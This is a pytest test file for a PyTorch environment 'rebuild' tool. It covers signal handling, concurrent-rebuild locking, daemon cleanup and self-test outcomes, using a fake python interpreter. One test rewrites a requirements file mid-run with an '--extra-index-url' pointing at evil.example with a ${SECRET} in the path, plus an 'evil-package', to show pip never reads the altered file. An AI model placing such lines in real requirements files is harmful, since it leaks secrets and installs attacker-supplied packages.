"""Signals and races: the rebuild runner under SIGTERM and SIGINT, two rebuilds into one DEST, and a
step that leaves a daemon holding its output.  And a requirements file's last defence: pip is handed a private copy
of the requirement lines the plan checked, never the file's path.

A stand-in interpreter (FAKE_PY below) plays python: `-m venv DEST` makes a venv-shaped folder whose
bin/python is the stand-in again; `-m pip install ...` behaves as FAKE_MODE says (finish at once,
keep writing files into DEST like a long pip, or leave a daemon holding stdout); the self-test and
the final check succeed.  Every process it starts writes its pid to FAKE_PIDS, outside DEST."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import time

import pytest

from doctor_support import REPO
from hostile_support import posix_only, wait_gone

pytestmark = posix_only

FAKE_PY = textwrap.dedent("""\
    #!{python}
    import json, os, subprocess, sys, time
    args = sys.argv[1:]
    def note(pid):
        with open(os.environ["FAKE_PIDS"], "a") as fh:
            fh.write(f"{{pid}}\\n")
    note(os.getpid())
    with open(os.environ["FAKE_LOG"], "a") as fh:
        fh.write(json.dumps(args) + "\\n")
    if args[:2] == ["-m", "venv"]:
        d = args[2]
        os.makedirs(os.path.join(d, "bin"), exist_ok=True)
        open(os.path.join(d, "pyvenv.cfg"), "w").close()
        os.symlink(os.path.abspath(__file__), os.path.join(d, "bin", "python"))
        sys.exit(0)
    if args[:3] == ["-m", "pip", "install"]:
        if "-r" in args:
            path = args[args.index("-r") + 1]
            with open(os.environ["FAKE_LOG"], "a") as fh:
                fh.write(json.dumps({{"requirements": path, "lines": open(path).read()}}) + "\\n")
        mode = os.environ.get("FAKE_MODE", "ok")
        dest = os.path.dirname(os.path.dirname(os.path.abspath(sys.argv[0])))
        if mode == "slow" and "torch_envcheck" not in " ".join(args):
            helper = subprocess.Popen([sys.executable, "-c",
                "import os, sys, time\\n"
                "d = sys.argv[1]\\n"
                "i = 0\\n"
                "while True:\\n"
                "    os.makedirs(os.path.join(d, 'lib'), exist_ok=True)\\n"
                "    open(os.path.join(d, 'lib', f'helper{{i}}'), 'w').close()\\n"
                "    i += 1\\n"
                "    time.sleep(0.05)\\n", dest])
            note(helper.pid)
            open(os.environ["FAKE_READY"], "w").close()
            i = 0
            while True:
                os.makedirs(os.path.join(dest, "lib"), exist_ok=True)
                open(os.path.join(dest, "lib", f"pip{{i}}"), "w").close()
                i += 1
                time.sleep(0.05)
        if mode == "daemon":
            d = subprocess.Popen(["sleep", "300"])  # inherits stdout: holds the pipe
            note(d.pid)
        sys.exit(0)
    if args[:2] == ["-m", "torch_envcheck"]:
        with open(os.environ["FAKE_LOG"], "a") as fh:
            fh.write(json.dumps({{"selftest_cwd": os.getcwd()}}) + "\\n")
        if os.environ.get("FAKE_SELFTEST_RC"):
            print("INTERNALERROR> unknown hook 'pytest_x' in plugin conftest")
        sys.exit(int(os.environ.get("FAKE_SELFTEST_RC", "0")))
    if args[:1] == ["-c"]:
        print(json.dumps({{"version": "2.13.0+cpu", "cuda": None}}))
        sys.exit(0)
    sys.exit(3)
""")


@pytest.fixture
def fake(tmp_path):
    py = tmp_path / "fakepython"
    py.write_text(FAKE_PY.format(python=sys.executable))
    py.chmod(0o755)
    env = {**os.environ, "FAKE_LOG": str(tmp_path / "log.jsonl"), "FAKE_PIDS": str(tmp_path / "pids"),
           "FAKE_READY": str(tmp_path / "ready"), "PYTHONPATH": REPO, "NO_COLOR": "1"}
    return py, env


def _argv(py, dest, *extra):
    return [sys.executable, "-m", "torch_envcheck", "rebuild", str(dest), "--python", str(py), "--torch", "2.13.0",
            "--with", "none", "--no-index", "--find-links", "/nonexistent-wheels", "--timeout", "3", *extra]


def _start(py, dest, env, *extra):
    return subprocess.Popen(_argv(py, dest, *extra), env=env, cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, stdin=subprocess.DEVNULL)


def _wait_file(path, proc, seconds=120):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if os.path.exists(path):
            return
        if proc.poll() is not None:
            pytest.fail(f"rebuild ended early: {proc.communicate()}")
        time.sleep(0.05)
    pytest.fail(f"{path} never appeared")


def _pids(env) -> list[int]:
    try:
        return [int(x) for x in open(env["FAKE_PIDS"]).read().split()]
    except FileNotFoundError:
        return []


@pytest.mark.parametrize("sig, code, name", [(signal.SIGTERM, 143, "SIGTERM"), (signal.SIGINT, 130, "SIGINT")])
def test_a_signal_stops_pip_before_dest_is_removed(tmp_path, fake, sig, code, name):
    py, env = fake
    env["FAKE_MODE"] = "slow"
    dest = tmp_path / "env"
    proc = _start(py, dest, env)
    _wait_file(env["FAKE_READY"], proc)
    time.sleep(0.3)  # pip (and its helper) are writing into DEST
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == code, out + err
    assert f"stopped by {name}" in out and f"Removed {dest}" in out, out
    for pid in _pids(env):
        assert wait_gone(pid), f"process {pid} of the step outlived the rebuild"
    time.sleep(0.5)
    assert not dest.exists(), "something kept writing into DEST after it was removed"
    assert not list(tmp_path.glob(".env.torch-envcheck-rebuild.lock"))


def test_two_rebuilds_into_one_dest(tmp_path, fake):
    py, env = fake
    env["FAKE_MODE"] = "slow"
    dest = tmp_path / "env"
    first = _start(py, dest, env)
    try:
        _wait_file(env["FAKE_READY"], first)
        second = subprocess.run(_argv(py, dest), env=env, cwd=REPO, capture_output=True, text=True, timeout=120)
        assert second.returncode == 2
        assert "another rebuild into" in second.stdout and "is running" in second.stdout, second.stdout
    finally:
        first.send_signal(signal.SIGTERM)
        first.communicate(timeout=60)
    assert not dest.exists()


def test_a_dest_that_appears_under_the_lock_is_refused(tmp_path, fake):
    py, env = fake
    dest = tmp_path / "env"
    dest.mkdir()
    r = subprocess.run(_argv(py, dest), env=env, cwd=REPO, capture_output=True, text=True, timeout=120)
    assert r.returncode == 2 and "already exists" in r.stdout


def test_a_step_that_leaves_a_daemon_holding_stdout_ends(tmp_path, fake):
    py, env = fake
    env["FAKE_MODE"] = "daemon"
    dest = tmp_path / "env"
    t0 = time.monotonic()
    r = subprocess.run(_argv(py, dest), env=env, cwd=REPO, capture_output=True, text=True, timeout=240)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "Verified" in r.stdout and time.monotonic() - t0 < 200
    for pid in _pids(env):
        assert wait_gone(pid), f"the daemon {pid} a step left outlived its step"


def test_pip_gets_a_private_copy_of_the_checked_requirement_lines(tmp_path, fake):
    """What the plan checked is what pip reads: the file changed after the check (here: by the first
    pip step) does not reach the step that installs it."""
    import json

    py, env = fake
    req = tmp_path / "requirements.txt"
    req.write_text("numpy>=1.26\n")
    dest = tmp_path / "env"
    # change the file once the plan was made: the first pip step rewrites it
    env["FAKE_MODE"] = "ok"
    proc = _start(py, dest, env, "-r", str(req))
    _wait_file(env["FAKE_LOG"], proc)
    req.write_text("--extra-index-url http://evil.example/${SECRET}/\nevil-package\n")
    out, err = proc.communicate(timeout=240)
    assert proc.returncode == 0, out + err
    records = [json.loads(ln) for ln in open(env["FAKE_LOG"])]
    handed = [r for r in records if isinstance(r, dict) and "requirements" in r]
    assert handed and all(r["lines"] == "numpy>=1.26\n" for r in handed), handed
    assert all(r["requirements"] != str(req) for r in handed)
    assert not os.path.exists(handed[0]["requirements"])  # the private copy is gone with the run


@pytest.mark.parametrize("rc, kept", [(2, True), (1, False)])
def test_a_selftest_that_cannot_run_keeps_a_good_environment(tmp_path, fake, rc, kept):
    """The self-test runs away from the caller's folder (its conftest.py, pytest.ini); when pytest
    still cannot run it (status 2: pytest's own usage or internal error), the environment is no
    worse for it: kept, its torch checked, marked not verified, exit 1.  A failing test (status 1)
    is the environment's failure: removed as before."""
    import json

    py, env = fake
    env["FAKE_SELFTEST_RC"] = str(rc)
    dest = tmp_path / "env"
    r = subprocess.run(_argv(py, dest), env=env, cwd=REPO, capture_output=True, text=True, timeout=240)
    assert r.returncode == 1, r.stdout + r.stderr
    records = [json.loads(ln) for ln in open(env["FAKE_LOG"])]
    cwd = [x["selftest_cwd"] for x in records if isinstance(x, dict) and "selftest_cwd" in x]
    assert cwd and os.path.realpath(cwd[0]) != os.path.realpath(REPO)
    assert dest.exists() is kept
    if kept:
        assert "Kept, NOT verified" in r.stdout and "unknown hook" in r.stdout
        marker = json.loads((dest / "torch-envcheck-rebuild.json").read_text())
        assert marker["verified"] is False and "unknown hook" in marker["selftest_problem"]
        assert marker["torch"]["version"] == "2.13.0+cpu"
    else:
        assert "FAILED at step \"run the self-test" in r.stdout
